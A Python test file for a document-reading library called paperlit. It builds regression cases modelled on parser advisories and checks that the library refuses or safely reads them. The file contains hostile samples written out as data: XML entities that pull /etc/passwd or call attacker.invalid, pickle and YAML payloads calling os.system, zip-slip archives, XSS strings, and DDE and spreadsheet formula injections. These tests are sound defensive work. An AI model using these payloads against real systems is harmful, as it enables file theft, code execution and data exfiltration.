"What was once wrong with other programs, tried on paperlit: each case is a small file or text of our own after the idea of an advisory or a fix, with what must come of it in two seconds and 256 MB"
import gzip
import io
import json
import os
import re
import struct
import subprocess
import sys
import tarfile
import warnings
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import NamedTuple

import pytest
from hostile_pdf import PDFS, TITLE
from test_hostile import ARTICLE, ods, ROW, stream, workbook, zipped

import paperlit
from paperlit import children, ledger, load
from paperlit.core import Notice, SourceError, papers_table
from paperlit.export import to_html
from paperlit.word import to_docx

SECONDS, MEMORY = 2, 256 # For each case, CPU seconds and megabytes more
DOCS = Path(__file__).resolve().parents[1]/'docs'/'advisories.md'
GOOD = 'TY  - JOUR\nTI  - Weighing trees\nER  - \n'


class Case(NamedTuple):
    "An advisory, and what paperlit makes of a file or text after its idea"
    id: str
    program: str # In which it was found
    what: str    # What was wrong, or what the file holds
    kind: str    # What must come of it: a name in `OUTCOMES`
    make: callable # Gives the file and its name, or the text
    why: str=''  # What the sentence of a refusal says


def reads(data, name):
    with warnings.catch_warnings():
        warnings.simplefilter('ignore', Notice)
        return load(stream(data, name), progress=False)


def refused(case):
    with pytest.raises(SourceError, match=case.why) as e: reads(*case.make())
    assert '\n' not in str(e.value)


def read(case):
    papers = reads(*case.make())
    led = ledger(papers)
    assert len(papers) and len(led) == (led['action'] == 'kept').sum() + (led['action'] == 'rejected').sum()
    if case.why: assert re.search(case.why, papers['title'].iloc[0]), papers['title'].tolist()


def partly(case):
    papers = reads(*case.make())
    led = ledger(papers)
    assert len(papers) and led.loc[led['action'] == 'rejected', 'reason'].str.contains(case.why).any(), led['reason'].tolist()


def paper(said): return papers_table([dict(title=f'Trees {said}', abstract=f'We introduce OakNet {said}, which weighs oaks. On OakBench, OakNet outperforms {said} ElmNet by 3.2%.', authors=[f'{said}, Ann'], venue=said, urls=[said], doi=f'10.1000/{said}', year=2001, source=said, record='L1')])


class Tags(HTMLParser):
    "The tags of a page, and the attributes of each"
    def __init__(self, page): super().__init__(); self.found = []; self.feed(page)
    def handle_starttag(self, tag, attrs): self.found += [(tag, a, v or '') for a, v in [*attrs, ('', '')]]


def shown(case):
    "The brief review of a paper that says it, as a page and in Word: no tag, no link and no picture comes of it"
    papers = paper(case.make())
    said = paperlit.brief(papers, papers.index[0])
    found = Tags(to_html(said, papers).split('<main', 1)[1].split('</main>')[0]).found
    assert {t for t, _, _ in found} <= {*'h1 h2 h3 p ul ol li a em strong code table colgroup col thead tbody tr th td div span footer section details summary q br mark i'.split()}
    assert {a for t, a, v in found if t != 'col' or not re.fullmatch(r'width:[\d.]+%', v)} <= {'', 'id', 'class', 'href', 'title', 'rel', 'tabindex', 'role', 'aria-label', 'target', 'lang'}
    assert all(re.match('#|https?://', v) for _, a, v in found if a == 'href')
    with zipfile.ZipFile(io.BytesIO(to_docx(said, papers, {}, 'T'))) as z:
        assert not [n for n in z.namelist() if 'media' in n or 'embed' in n]
        assert all(re.match('https?:', t) for n in z.namelist() if n.endswith('.rels') for t in re.findall(r'Target="([^"]*)"[^>]*External', z.read(n).decode()))


def cells(case):
    "A paper with this title as a workbook of Excel: text in every cell"
    import openpyxl
    with_path = Path(os.environ.get('TMPDIR', '/tmp'))/f'paperlit-advisory-{os.getpid()}.xlsx'
    try:
        paperlit.save(papers_table([dict(title=case.make(), source='a', record='L1')]), with_path)
        assert not [c for row in openpyxl.load_workbook(with_path).active.iter_rows() for c in row if c.data_type == 'f' or c.hyperlink]
    finally: with_path.unlink(missing_ok=True)


def linear(case):
    "Every step from a record to a page takes the text, 30,000 characters of it, in time"
    from paperlit.records import cleaned
    text = case.make()
    out = cleaned(dict(title=text[:2000], abstract=text, source='a', record='L1'))
    papers = papers_table([out | dict(source='a', record='L1')])
    paperlit.tag_sentences(papers)
    to_html(text, papers)


OUTCOMES = {'refused': (refused, 'refused in a sentence'), 'read': (read, 'read; the harm does nothing'), 'partly': (partly, 'the rest is read, the harm is refused in the ledger'), 'shown': (shown, 'shown as text: no tag, link or picture comes of it'),
            'cells': (cells, 'a cell of text, no formula'), 'linear': (linear, 'read, split into sentences and written in linear time')}
NOT_READ = {'CVE-2025-55197', 'CVE-2025-62708', 'CVE-2025-66019', 'CVE-2026-33123', 'CVE-2026-84311'} # They swell: the child ends
NO_TEXT = {'CVE-2026-27026', 'CVE-2026-28351', 'CVE-2026-28804', 'CVE-2026-49460', 'pypdf #3576', 'pypdf #3734'}
DAMAGED = {'CVE-2026-22690', 'CVE-2026-22691', 'pypdf #3693', 'pypdf #4289', 'pypdf #4290', 'pages in a circle'}


def of_pdf(name, what, make):
    file = lambda: (make(), 'a.pdf')
    program = 'pdfminer.six' if name == 'CVE-2025-64512' else 'several' if ' ' in name and 'pypdf' not in name else 'pypdf'
    for names, why in ((NOT_READ, 'ran out of memory|far more memory|far longer'), (NO_TEXT, 'no text layer'), (DAMAGED, 'damaged')):
        if name in names: return Case(name, program, what, 'refused', file, why)
    return Case(name, program, what, 'read', file, TITLE)


def xlsx_with(part, data):
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook())) as old, zipfile.ZipFile(out, 'w') as new:
        for n in old.namelist(): new.writestr(n, data if n == part else old.read(n))
    return out.getvalue()


def overlapping(n):
    "A zip whose members all are the same bytes"
    first = zipped(a__ris=b'TY  - ' * (10 << 18))
    end = first.index(b'PK\x01\x02')
    entry = first[end:first.index(b'PK\x05\x06')]
    central = b''.join(entry[:46] + b'%05d' % i + entry[46 + 5:] for i in range(n))
    return first[:end] + central + struct.pack('<4s4H2LH', b'PK\x05\x06', 0, 0, n, n, len(central), end, 0)


def zip64_lie():
    data = zipped(a__ris=GOOD)
    end = data.index(b'PK\x05\x06')
    record = struct.pack('<4sQ2H2L4Q', b'PK\x06\x06', 44, 45, 45, 0, 0, 2**40, 2**40, 2**40, 2**40)
    return data[:end] + record + struct.pack('<4sLQL', b'PK\x06\x07', 0, end, 1) + data[end:end + 8] + b'\xff' * 12 + data[end + 20:]


def tar_of(*infos):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode='w') as tar:
        for info in infos: tar.addfile(info, io.BytesIO(b'x' * info.size))
    return out.getvalue()


def link(name, to):
    info = tarfile.TarInfo(name)
    info.type, info.linkname = tarfile.SYMTYPE, to
    return info


def parquet_of_a_stranger():
    "Parquet whose Arrow schema names a Python type as a pickle"
    import pyarrow as pa
    import pyarrow.parquet as pq
    bad = b'cposix\nsystem\n(S"touch /tmp/paperlit-was-hit"\ntR.'
    field = pa.field('title', pa.string(), metadata={b'ARROW:extension:name': b'arrow.py_extension_type', b'ARROW:extension:metadata': bad})
    out = io.BytesIO()
    pq.write_table(pa.table([pa.array(['Weighing trees'])], schema=pa.schema([field])), out)
    return out.getvalue()


def parquet_that_swells():
    "Parquet of some bytes for each million rows"
    import pyarrow as pa
    import pyarrow.parquet as pq
    row = pa.array(['x' * 1000]).dictionary_encode()
    out = io.BytesIO()
    column = pa.DictionaryArray.from_arrays(pa.array([0] * 2_000_000, pa.int32()), row.dictionary)
    pq.write_table(pa.table({'title': column}), out, compression='zstd')
    return out.getvalue()


def npz(): return zipped(**{'a__npy': b'\x93NUMPY\x01\0v\0' + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b'\n' + b'cposix\nsystem\n(S"touch /tmp/paperlit-was-hit"\ntR.'})


PICKLE = b'\x80\x04\x95\x2a\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x1ctouch /tmp/paperlit-was-hit \x94\x85\x94R\x94.' + bytes(range(32)) * 4
XI = '<PubmedArticleSet xmlns:xi="http://www.w3.org/2001/XInclude"><PubmedArticle><MedlineCitation><PMID>1</PMID><Article><ArticleTitle>Oaks <xi:include href="file:///etc/passwd" parse="text"/></ArticleTitle></Article></MedlineCitation></PubmedArticle></PubmedArticleSet>'
DTD = '<!DOCTYPE a [{}]>' + ARTICLE
BIB = '@article{{a, title={{{}}}, year=2001}}\n'
many = lambda text, n=30_000: lambda: (text * n)[:n]
text_case = lambda id, program, what, make: Case(id, program, what, 'linear', make)
show = lambda id, program, what, said: Case(id, program, what, 'shown', lambda: said)

CASES = [*(of_pdf(name, *rest) for name, rest in PDFS.items()),
    Case('CVE-2003-1564', 'libxml2', 'entities that multiply', 'refused', lambda: (DTD.format('<!ENTITY a "ha">' + ''.join(f'<!ENTITY a{n} "{"&a;" * 10 if n == 0 else f"&a{n-1};" * 10}">' for n in range(12)), '&a11;'), 'a.xml'), 'entities'),
    Case('CVE-2013-1664', 'Python', 'one long entity, named many times', 'refused', lambda: (DTD.format(f'<!ENTITY a "{"a" * 100_000}">', '&a;' * 30_000), 'a.xml'), 'entities|no format'),
    Case('CVE-2013-1665', 'Python', 'an entity that is a file', 'refused', lambda: (DTD.format('<!ENTITY a SYSTEM "file:///etc/passwd">', '&a;'), 'a.xml'), 'entities'),
    Case('CVE-2018-1000652', 'JabRef', 'an entity that is an address, in a library', 'refused', lambda: ('<?xml version="1.0"?><!DOCTYPE b:Sources [<!ENTITY a SYSTEM "http://attacker.invalid/">]><b:Sources xmlns:b="http://schemas.openxmlformats.org/officeDocument/2006/bibliography"><b:Source><b:Title>&a;</b:Title></b:Source></b:Sources>', 'a.xml'), 'entities'),
    Case('defusedxml: DTD', 'defusedxml', 'a DTD that is an address', 'read', lambda: ('<!DOCTYPE a SYSTEM "http://attacker.invalid/a.dtd">' + ARTICLE.format('Oaks'), 'a.xml'), 'Oaks'),
    Case('defusedxml: parameter', 'defusedxml', 'a parameter entity that is an address', 'refused', lambda: (DTD.format('<!ENTITY % a SYSTEM "http://attacker.invalid/"> %a;', 'x'), 'a.xml'), 'entities'),
    Case('defusedxml: XInclude', 'defusedxml', 'an inclusion of a file', 'read', lambda: (XI, 'a.xml'), '^Oaks$'),
    Case('defusedxml: gzip', 'defusedxml', 'packed XML that unpacks to 300 MB', 'refused', lambda: (gzip.compress(b'<PubmedArticleSet>') + gzip.compress(b' ' * 2**20) * 300, 'a.xml.gz'), 'unpacks to more|no place|no record|no text'),
    Case('CVE-2025-59375', 'expat', 'memory from many small tokens of a DTD', 'refused', lambda: (DTD.format('<!ATTLIST a b CDATA "">' * 40_000 + '<!ENTITY a "b">', 'x'), 'a.xml'), 'entities|no format'),
    Case('CVE-2024-8176', 'expat', 'entities 20,000 deep', 'refused', lambda: (DTD.format('<!ENTITY a0 "a">' + ''.join(f'<!ENTITY a{n+1} "&a{n};">' for n in range(20_000)), '&a20000;'), 'a.xml'), 'entities|no format'),
    Case('CVE-2022-40303', 'libxml2', 'an attribute of 12 MB', 'refused', lambda: (ARTICLE.replace('<PMID>', '<PMID a="' + 'a' * (12 << 20) + '">').format('Oaks'), 'a.xml'), ''),
    Case('PYSEC-2026-87', 'lxml', 'a local file as an entity where a tree is read piece by piece', 'refused', lambda: ('<!DOCTYPE a [<!ENTITY a SYSTEM "/etc/passwd">]>' + ARTICLE.format('&a;') + ' ' * 10**6, 'a.xml'), 'entities'),
    Case('CVE-2017-5992', 'openpyxl', 'an entity that is a file, in a workbook', 'refused', lambda: (xlsx_with('xl/worksheets/sheet1.xml', b'<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c t="inlineStr"><is><t>&a;</t></is></c></row></sheetData></worksheet>'), 'a.xlsx'), ''),
    Case('CVE-2016-5851', 'python-docx', 'an entity that is a file, in a Word document', 'refused', lambda: (zipped(**{'[Content_Types]__xml': '<Types/>', 'word/document__xml': '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><a>&a;</a>'}), 'a.docx'), ''),
    Case('openpyxl: rows', 'openpyxl', 'a row that says that it is the millionth, with cells in every column', 'partly', lambda: (workbook(b''.join(b'<row r="%d"><c r="XFD%d"><v>1</v></c></row>' % (i, i) for i in range(9, 1300))), 'a.xlsx'), 'more cells|no title|which paper|claims'),
    Case('calamine: repeated', 'calamine', 'a row that stands there a hundred million times', 'refused', lambda: (ods(ROW.format('') + ROW.format(' table:number-rows-repeated="100000000"')), 'a.ods'), 'more rows'),
    Case('CVE-2019-9674', 'Python', 'a zip that unpacks to 300 MB', 'refused', lambda: (zipped(a__ris=b'a' * (300 << 20)), 'a.zip'), 'unpacks to more'),
    Case('CVE-2024-0450', 'Python', 'a zip of 2,000 members that are the same bytes', 'refused', lambda: (overlapping(2000), 'a.zip'), ''),
    Case('CVE-2025-8291', 'Python', 'a zip whose directory (zip64) lies about where it is', 'refused', lambda: (zip64_lie(), 'a.zip'), ''),
    Case('CVE-2018-1002200', 'several ("zip slip")', 'members that are named ../../x and /x', 'read', lambda: (zipped(**{'../../../../tmp/paperlit-was-hit__ris': GOOD, '/tmp/paperlit-was-hit__ris': GOOD}), 'a.zip'), 'Weighing'),
    Case('CVE-2007-4559', 'Python', 'a tar with ../../x', 'refused', lambda: (tar_of(tarfile.TarInfo('../../tmp/paperlit-was-hit')), 'a.tar'), 'no text|no format|empty'),
    Case('CVE-2025-4517', 'Python', 'a tar with links that lead out', 'refused', lambda: (tar_of(link('a', '../../../tmp'), link('a/b', '/etc/passwd')), 'a.tar'), 'no text|no format|empty'),
    Case('CVE-2025-8194', 'Python', 'a tar whose offsets are negative', 'refused', lambda: (tar_of(tarfile.TarInfo('a'))[:124] + b'\xff' * 12 + tar_of(tarfile.TarInfo('a'))[136:], 'a.tar'), ''),
    Case('CVE-2026-3219', 'pip', 'a file that is a tar and a zip', 'refused', lambda: (tar_of(tarfile.TarInfo('a')) + zipped(a__ris=GOOD), 'a.zip'), 'no text|no format'),
    Case('gzip in gzip', 'several', 'gzip within gzip within gzip', 'refused', lambda: (gzip.compress(gzip.compress(gzip.compress(b' ' * (64 << 20)))), 'a.ris.gz'), 'archive in an archive'),
    Case('CVE-2022-21797', 'joblib', 'a pickle', 'refused', lambda: (PICKLE, 'a.joblib'), 'no text|no format'),
    Case('CVE-2025-54412', 'skops', 'a model that names a function', 'refused', lambda: (zipped(schema__json=json.dumps({'__class__': 'system', '__module__': 'os', '__loader__': 'OperatorFuncNode', 'attrs': {'content': 'touch hit'}})), 'a.skops'), ''),
    Case('CVE-2019-6446', 'NumPy', 'an array of pickled objects', 'refused', lambda: (npz(), 'a.npz'), ''),
    Case('CVE-2025-32434', 'PyTorch', 'a model that is a zip with a pickle', 'refused', lambda: (zipped(**{'archive/data__pkl': PICKLE, 'archive/version': '3'}), 'a.pt'), ''),
    Case('CVE-2023-47248', 'PyArrow', 'Parquet whose schema is a pickle', 'read', lambda: (parquet_of_a_stranger(), 'a.parquet'), 'Weighing'),
    Case('Parquet that swells', 'several', 'Parquet of some kilobytes with 2 GB of text', 'refused', lambda: (parquet_that_swells(), 'a.parquet'), 'more than|far more'),
    Case('CVE-2020-1747', 'PyYAML', 'YAML that calls a function', 'refused', lambda: ('cff-version: 1.2.0\ntitle: !!python/object/new:os.system ["touch hit"]\n', 'CITATION.cff'), 'YAML'),
    Case('CVE-2020-14343', 'PyYAML', 'YAML that makes an object with a state', 'refused', lambda: ('cff-version: 1.2.0\ntitle: !!python/object/new:tuple\n- !!python/object/new:map\n  args: [!!python/name:eval , ["1"]]\n', 'CITATION.cff'), 'YAML'),
    Case('CVE-2019-11253', 'Kubernetes', 'YAML whose anchors multiply', 'refused', lambda: ('cff-version: 1.2.0\na: &a [x,x,x,x,x,x]\n' + ''.join(f'b{n}: &b{n} [{",".join(["*" + (f"b{n-1}" if n else "a")] * 9)}]\n' for n in range(12)), 'CITATION.cff'), ''),
    Case('CVE-2020-10735', 'Python', 'a number of a million digits', 'refused', lambda: ('{"title": "Oaks", "year": ' + '9' * 10**6 + '}\n', 'a.jsonl'), 'JSON'),
    Case('CVE-2025-67221', 'orjson', 'JSON nested 100,000 deep', 'refused', lambda: ('[{"title": "Oaks", "a": ' + '[' * 100_000 + ']' * 100_000 + '}]', 'a.json'), ''),
    Case('JSON: keys', 'several', 'JSON with 30,000 fields in one record', 'read', lambda: (json.dumps([dict({f'k{n}': n for n in range(30_000)}, title='Oaks')]), 'a.json'), 'Oaks'),
    Case('BibTeX: \\write18', 'TeX', 'a title that runs a command', 'read', lambda: (BIB.format('Trees \\immediate\\write18{touch /tmp/paperlit-was-hit}'), 'a.bib'), 'Trees'),
    Case('BibTeX: \\input', 'TeX', 'a title that includes a file', 'read', lambda: (BIB.format('Trees \\input{/etc/passwd}'), 'a.bib'), '^Trees(?!.*root:)'),
    Case('BibTeX: @string', 'bibtexparser', 'names that stand for each other, doubling', 'read', lambda: ('@string{a0 = "ha"}\n' + ''.join(f'@string{{a{n+1} = a{n} # a{n}}}\n' for n in range(40)) + '@article{k, title={Oaks}, note = a40}\n', 'a.bib'), 'Oaks'),
    Case('BibTeX: crossref', 'several', 'entries that refer to each other in a circle', 'read', lambda: ('@article{a, crossref={b}, title={Oaks}}\n@article{b, crossref={a}, title={Elms}}\n', 'a.bib'), 'Oaks'),
    Case('CSV: cells', 'Python', 'a cell of 3 MB', 'partly', lambda: ('Title,Year\nOaks,2001\n"' + 'a' * (3 << 20) + '",2002\n', 'a.csv'), 'cannot be read'),
    text_case('CVE-2022-34749', 'mistune', 'a link label of brackets', many('![')),
    text_case('CVE-2021-43854', 'NLTK', 'a long run without white space, before a full stop', lambda: 'a' * 30_000 + '.'),
    text_case('CVE-2021-3828', 'NLTK', 'a run of digits and signs', many('1-')),
    text_case('CVE-2025-6069', 'Python', 'tags that begin and do not end', many('<a ')),
    text_case('CVE-2026-2327', 'markdown-it', 'a run of stars before an address', lambda: '*' * 30_000 + 'a@'),
    text_case('PYSEC-2026-89', 'Markdown', 'markup declarations that do not end', many('<![')),
    text_case('CVE-2020-6817', 'Bleach', 'style attributes that go on', many('<a style="a:')),
    text_case('CVE-2026-4539', 'Pygments', 'a run of letters and dashes', many('a-')),
    text_case('CVE-2024-3651', 'idna', 'a long address of letters beyond ASCII', lambda: 'http://' + '\u0660' * 29_000 + '.com'),
    text_case('CVE-2021-44686', 'calibre', 'white space before a line end', lambda: 'a' + ' ' * 30_000 + 'b'),
    text_case('markdown-it-py 3.0.1', 'markdown-it-py', 'a table of many columns and few cells', lambda: '|a' * 3000 + '\n' + '|-' * 3000 + '\n|b'),
    text_case('CVE-2024-28243', 'KaTeX', 'a macro that doubles itself', lambda: '$\\edef\\a{\\a\\a}\\a$ ' * 1000),
    show('CVE-2021-32862', 'nbconvert', 'a script in the data that a page is made from', '<script>alert(1)</script>'),
    show('CVE-2024-43805', 'JupyterLab', 'an id and a name in Markdown that stand for what a page trusts', '<a id="jupyter-config-data">x</a><form name=config><input name=baseUrl>'),
    show('CVE-2026-42557', 'JupyterLab', 'attributes by which a click runs a command', '<button data-commandlinker-command="runmenu:run" data-commandlinker-args="{}">x</button>'),
    show('CVE-2025-59842', 'JupyterLab', 'a link from a formula', '$\\href{http://attacker.invalid/}{x}$'),
    show('CVE-2026-44727', 'Jupyter Server', 'a page that is stored and shown with all rights', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'),
    show('CVE-2026-73415', 'JupyterLab', 'a picture that is a script', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'),
    show('CVE-2026-39378', 'nbconvert', 'a picture whose path leads to another file', '![x](../../../../etc/passwd)'),
    show('CVE-2026-39377', 'nbconvert', 'an attachment that is named as a path', '![x](attachment:../../../tmp/paperlit-was-hit)'),
    show('CVE-2023-35936', 'pandoc', 'a picture in a data address that writes a file', '![](data:image/png;.lua+%252f%252e%252e%252f%252e%252e%252fb%252elua,print "hello")'),
    show('CVE-2024-28246', 'KaTeX', 'an address with a protocol in capitals', '\\href{JaVaScRiPt:alert(1)}{x} [x](JaVaScRiPt:alert(1))'),
    show('CVE-2018-1999024', 'MathJax', 'a style within a formula', '$\\unicode[font-family:x;background:url(http://attacker.invalid/)]{65}$'),
    show('CVE-2023-24329', 'Python', 'an address with white space before it', ' javascript:alert(1)'),
    show('CVE-2025-0938', 'Python', 'an address with brackets', 'http://[::1].attacker.invalid/[x]'),
    show('CVE-2021-43818', 'lxml', 'a script within SVG within a style', '<svg><style>/*<script>*/@import "http://attacker.invalid";</style></svg>'),
    show('CVE-2020-26870', 'DOMPurify', 'markup that changes when it is read twice', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'),
    show('CVE-2024-56201', 'Jinja', 'a template', "{{ ''.__class__.__mro__ }}{% include '/etc/passwd' %}"),
    show('CVE-2023-46308', 'plotly.js', 'names that every object has', '__proto__'),
    show('DDE', 'Word', 'a field that runs a command', '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }'),
    Case('CWE-1236', 'several', 'a title that is a formula', 'cells', lambda: '=HYPERLINK("http://attacker.invalid/?"&A1,"x")'), Case('CWE-1236: DDE', 'several', 'a title that runs a command', 'cells', lambda: "=cmd|' /C calc'!A0"),
    Case('CWE-1236: tab', 'several', 'a formula behind white space', 'cells', lambda: '\t@SUM(1+1)*cmd|x!A1')]


def table():
    "The cases as a page of the documentation"
    rows = sorted(CASES, key=lambda c: (c.program.lower(), c.id))
    plain = lambda t: re.sub(r'([\\*_<>|\[\]#{}$`])', r'\\\1', t)
    return '\n'.join(['# Advisories', '', f'What was once wrong with other programs that read or show documents, tried on paperlit: {len(CASES)} small files and texts of our own, each after the idea of an advisory or of a fix, and what paperlit makes of it. '
                      f'`tests/test_advisories.py` tries them all and holds each to {SECONDS} seconds of computing and {MEMORY} MB more memory; this table is written from it (`python tests/test_advisories.py`).', '', '| advisory | program | what it was | what paperlit does |', '|---|---|---|---|',
                      *(f'| {plain(c.id)} | {plain(c.program)} | {plain(c.what)} | {OUTCOMES[c.kind][1]} |' for c in rows)]) + '\n'


def status(pid):
    "Megabytes at the peak"
    return int(re.search(r'VmHWM:\s+(\d+)', Path(f'/proc/{pid}/status').read_text())[1]) >> 10


def spent(pids):
    "CPU seconds of processes, and of those that have ended"
    ticks = os.sysconf('SC_CLK_TCK')
    live = [Path(f'/proc/{p}/stat').read_text().rsplit(')', 1)[1].split() for p in pids if Path(f'/proc/{p}').exists()]
    done = os.times()
    return done.user + done.system + done.children_user + done.children_system + sum((int(f[11]) + int(f[12])) / ticks for f in live)


def resting(): return [c.process.pid for c in children._RESTING if c.fit()]


@pytest.fixture(scope='module', autouse=True)
def warm():
    "Pay for imports once"
    reads(PDFS['CVE-2022-24859'][1](), 'a.pdf')
    for kind, said in (('shown', 'x'), ('cells', 'x'), ('linear', 'x')): OUTCOMES[kind][0](Case('', '', '', kind, lambda: said))
    reads(workbook(), 'a.xlsx')
    yield
    children.end_children()
    assert not Path('/tmp/paperlit-was-hit').exists() and not Path('hit').exists()


@pytest.mark.parametrize('case', CASES, ids=lambda c: c.id)
def test_advisory(case):
    made = case.make()
    case = case._replace(make=lambda: made)
    measured = sys.platform == 'linux'
    if measured:
        list(children.apart('paperlit.formats.pdf:read_pdf')(b'')) # A child is there
        pids = resting()
        for p in ('self', *pids): Path(f'/proc/{p}/clear_refs').write_text('5')
        before, start = {p: status(p) for p in ('self', *pids)}, spent(pids)
    OUTCOMES[case.kind][0](case)
    if measured:
        assert spent(pids) - start < SECONDS
        assert sum(status(p) - before[p] for p in before if p == 'self' or p in resting()) < MEMORY


WATCHED = """
import json, os, sys, warnings
warnings.simplefilter('ignore')
folder, seen, may = sys.argv[1], [], tuple(os.path.realpath(p) for p in sys.argv[1:])
from paperlit import children, load
from paperlit.core import SourceError
load(os.path.join(folder, 'good.ris'), progress=False)
def ours(args): return args[0] == sys.executable and list(args[1][1:4]) == ['-I', '-c', children._START]
def hook(event, args):
    if event == 'subprocess.Popen' and ours(args): return
    if event.split('.')[0] in ('socket', 'urllib', 'ftplib', 'smtplib') or event in ('subprocess.Popen', 'os.system', 'os.exec', 'os.posix_spawn', 'os.fork', 'pickle.find_class'): seen.append(f'{event} {args!r:.80}')
    if event == 'open' and isinstance(args[0], (str, bytes)):
        path = os.path.realpath(os.fsdecode(args[0]))
        if os.path.exists(path) and not path.startswith(may): seen.append(f'open {path}')
sys.addaudithook(hook)
n = 0
for name in sorted(os.listdir(folder)):
    try: load(os.path.join(folder, name), progress=False); n += 1
    except SourceError: n += 1
if os.environ.get('LEAK'): import pickle; pickle.loads(b'cbuiltins\\nlen\\n.'); open('/etc/hostname').read()
children.end_children()
print(json.dumps([n, seen]))
"""


def watched(folder, **env):
    import paperlit
    may = [folder, sys.prefix, sys.base_prefix, Path(paperlit.__file__).parent, '/usr/share', '/usr/lib', '/proc', '/dev/null', '/etc/mime.types']
    done = subprocess.run([sys.executable, '-c', WATCHED, *map(str, may)], capture_output=True, text=True, env=os.environ | env | dict(PYTHONDONTWRITEBYTECODE='1'))
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout.splitlines()[-1])


@pytest.mark.skipif(sys.platform == 'win32', reason='other folders')
def test_the_hostile_files_start_and_open_nothing(tmp_path):
    (tmp_path/'good.ris').write_text(GOOD)
    some = [c for c in CASES if c.kind in ('refused', 'read', 'partly')]
    for n, case in enumerate([c for c in some if c.make()[1] != 'a.pdf'] + some[:45:9]):
        data, name = case.make()
        (tmp_path/f'{n:03}{name}').write_bytes(data if isinstance(data, bytes) else data.encode())
    n, seen = watched(tmp_path)
    assert n > 45 and seen == []


def test_what_starts_or_opens_something_is_seen(tmp_path):
    (tmp_path/'good.ris').write_text(GOOD)
    seen = ' '.join(watched(tmp_path, LEAK='1')[1])
    assert 'pickle.find_class' in seen and '/etc/hostname' in seen


def test_there_are_enough_cases(): assert len({c.id for c in CASES}) == len(CASES) >= 60


def test_the_table_is_up_to_date(): assert DOCS.read_text('utf-8') == table()


if __name__ == '__main__': DOCS.write_text(table(), 'utf-8')
